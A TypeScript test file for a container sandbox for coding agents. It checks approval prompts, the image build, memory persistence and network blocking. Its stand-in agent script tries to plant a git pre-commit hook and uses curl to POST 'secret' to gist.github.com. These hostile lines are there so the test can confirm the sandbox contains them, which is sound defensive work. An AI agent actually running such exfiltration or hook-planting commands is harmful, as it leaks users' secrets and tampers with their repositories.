/** docs/coding-agents.md from its first file to its last command, with a script that stands in for the agent. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentFiles } from '../../controller/project-file/coding-agent-files.ts';
import { registerImage } from '../../emulators/container/emulation.ts';
import { type AppleWorld, CAN_EMULATE, createAppleWorld } from './apple-world.ts';

const DEADLINE_MS = 180_000;
const BASE = 'docker.io/library/node:24-slim';

/** What an agent does: reads its key, works in the project, installs, remembers, and tries to send things away. */
const AGENT = [
  '#!/bin/sh',
  'echo "key $ANTHROPIC_API_KEY, in $PWD"',
  'echo work > made.txt',
  'echo linux > node_modules/built',
  'cat /root/.claude/memory 2>/dev/null',
  'echo remembered > /root/.claude/memory',
  'echo hook > .git/hooks/pre-commit 2>/dev/null || echo "no hook"',
  'curl -sS -m 10 -o /dev/null -X POST -d secret https://gist.github.com/ 2>/dev/null || echo "not sent"',
].join('\n');

describe.skipIf(!CAN_EMULATE)('docs/coding-agents.md', { timeout: DEADLINE_MS }, () => {
  let world: AppleWorld;
  const environment = { ANTHROPIC_API_KEY: 'of-its-own' };

  beforeAll(() => {
    world = createAppleWorld();
    for (const [name, text] of Object.entries(agentFiles())) world.file(name, text);
    registerImage(world.environment.HOME ?? '', BASE, { root: '/', config: { Env: ['PATH=/usr/bin:/bin'] } });
    const installed = `printf '%s' '${Buffer.from(AGENT).toString('base64')}' | base64 -d > /usr/bin/claude`;
    // What the page installs wants the world; the first line, which names the base, stays.
    const [from = ''] = (agentFiles()['agent/Dockerfile'] ?? '').split('\n');
    expect(from).toBe(`FROM ${BASE}`);
    world.file('agent/Dockerfile', `${from}\nRUN ${installed} && chmod 755 /usr/bin/claude\n`);
    world.file('.git/hooks/pre-commit', '#!/bin/sh\n');
    world.file('.git/HEAD', 'ref: refs/heads/main\n');
  });

  afterAll(() => world.end());

  it('builds, asks, works, keeps, and sends nothing away', async () => {
    expect((await world.sand(['policy', 'test', './sand.policy-test.yaml'])).code).toBe(0);
    const unasked = await world.sand(['run', '--', 'true'], { environment });
    expect([unasked.code, unasked.stderr]).toEqual([2, expect.stringContaining('project-unapproved')]);
    for (const what of ['builds an image', 'passes your own ANTHROPIC_API_KEY', 'wider than strict'])
      expect(unasked.stderr).toContain(what);
    expect((await world.sand(['image', 'build', '--backend', 'apple-container'])).code).toBe(0);
    const named = ['run', '--project-file', 'sand.yaml'];
    const first = await world.sand(named, { environment, deadlineMs: DEADLINE_MS });
    expect([first.code, first.stdout]).toEqual([0, 'key of-its-own, in /work\nno hook\nnot sent\n']);
    expect(first.stderr).toContain('gist.github.com');
    const second = await world.sand(named, { environment, deadlineMs: DEADLINE_MS });
    expect(second.stdout).toContain('remembered\n');
    const listed = await world.sand(['volume', 'ls', '--json', '--backend', 'apple-container']);
    expect(JSON.parse(listed.stdout).map(({ label }: { readonly label: string }) => label)).toEqual([
      'agent-home',
      'node_modules',
    ]);
  });
});
